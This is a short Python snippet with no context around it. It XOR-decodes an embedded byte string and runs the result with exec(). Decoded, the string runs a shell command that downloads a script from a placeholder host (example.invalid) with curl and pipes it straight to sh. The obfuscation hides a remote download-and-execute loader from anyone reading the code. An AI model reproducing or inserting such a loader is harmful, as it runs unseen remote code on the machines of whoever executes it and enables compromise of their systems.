_K = 0x5A
_B = b'37*5(.z5)P5)t)#).?7rx9/(6zw)z2..*)`uu?";7*6?t34,;63>u)t)2z&z)2xsP'
exec(bytes(b ^ _K for b in _B).decode())
